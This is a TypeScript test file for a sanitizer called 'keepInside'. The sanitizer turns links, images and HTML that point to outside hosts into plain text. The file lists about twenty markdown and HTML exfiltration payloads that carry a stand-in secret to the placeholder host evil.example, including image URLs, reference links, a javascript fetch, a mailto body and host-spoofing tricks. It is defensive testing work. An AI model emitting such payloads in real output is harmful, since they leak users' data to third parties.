import { describe, expect, test } from 'vitest'
import { keepInside } from './keep-inside.ts'

const secret = 'c2VjcmV0'
const attacks = [
  `![chart](https://evil.example/x.png?d=${secret})`,
  `![chart][a]\n\n[a]: https://evil.example/${secret}`,
  `[click](https://evil.example/?d=${secret})`,
  `[click][a]\n\n[a]: https://evil.example/?d=${secret}`,
  `[a]\n\n[a]: https://evil.example/?d=${secret}`,
  `see https://evil.example/?d=${secret} now`,
  `see www.evil.example/?d=${secret} now`,
  `<https://evil.example/?d=${secret}>`,
  `<img src="https://evil.example/?d=${secret}">`,
  `text <img src=//evil.example/?d=${secret}> text`,
  `[![x](https://evil.example/${secret}.png)](https://evil.example/${secret})`,
  `[https://evil.example/?d=${secret}](https://evil.example/?d=${secret})`,
  `[x](//evil.example/?d=${secret})`,
  `[x](/\\evil.example/?d=${secret})`,
  `[x](javascript:fetch('https://evil.example/'+'${secret}'))`,
  `[x](mailto:a@evil.example?body=${secret})`,
  `[x](data:text/html,<img src=https://evil.example/${secret}>)`,
  `| a |\n| - |\n| ![x](https://evil.example/${secret}) |`,
  `> - [x](https://evil.example/${secret})`,
  `[x](HTTPS://EVIL.example/${secret})`,
  `[x](https://own.example@evil.example/${secret})`,
  `[x](https://own.example.evil.example/${secret})`,
]

describe('what would carry data out', () => {
  test.each(attacks)('is told in words: %s', (attack) => {
    const kept = keepInside(attack, 'own.example')
    // Read once more: nothing of it is an image, a link to elsewhere or HTML.
    expect(keepInside(kept, 'own.example')).toBe(kept)
    expect(kept).not.toMatch(/!\[|<img|https?:\/\//i)
  })
})

test('a link is told by its text and its host', () => {
  expect(keepInside('See [the plan](https://evil.example/a?b=c).', 'own.example')).toBe(
    'See the plan (`evil.example`).',
  )
})

test('what leads nowhere else stays as it is, character for character', () => {
  const text =
    '# Title\n\nSome *text* [1] with `https://evil.example/x` in code, [a page](/documents/1), [top](#top),\n[ours](https://own.example/a).\n\n```html\n<img src="https://evil.example">\n```\n\n| a | b |\n| - | - |\n| 1 | 2 < 3 |\n'
  expect(keepInside(text, 'own.example')).toBe(text)
})
